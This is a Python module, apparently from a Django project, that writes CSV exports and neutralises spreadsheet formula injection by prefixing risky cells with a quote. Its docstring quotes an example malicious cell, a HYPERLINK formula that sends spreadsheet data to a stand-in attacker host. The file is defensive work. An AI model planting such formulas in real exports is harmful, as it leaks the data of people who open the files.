"""The one CSV writer of exports (insights page and API): cells a spreadsheet would run are defused.

Branch names, tool names and authors come from whoever uploads. A cell such as
``=HYPERLINK("https://evil.example/?"&A1,"Open")`` is a live formula once the file is opened in a
spreadsheet (CSV or formula injection). OWASP's rule: a text cell starting with ``=``, ``+``, ``-``,
``@``, tab or carriage return gets a leading ``'``, which spreadsheets read as "this is text" and do not
show. Leading spaces do not hide a trigger. Numbers are written as they are. See docs/security.md.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import Any

from django.http import HttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_BLANKS = " \u00a0"


def spreadsheet_cell(value: Any) -> Any:
    if isinstance(value, str) and value.lstrip(_BLANKS).startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Mapping[str, Any]]) -> str:
    rows = list(rows)
    buffer = io.StringIO()
    if rows:
        writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
        writer.writerow({name: spreadsheet_cell(name) for name in writer.fieldnames})
        writer.writerows({key: spreadsheet_cell(value) for key, value in row.items()} for row in rows)
    return buffer.getvalue()


def csv_response(rows: Iterable[Mapping[str, Any]], filename: str) -> HttpResponse:
    response = HttpResponse(csv_text(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response
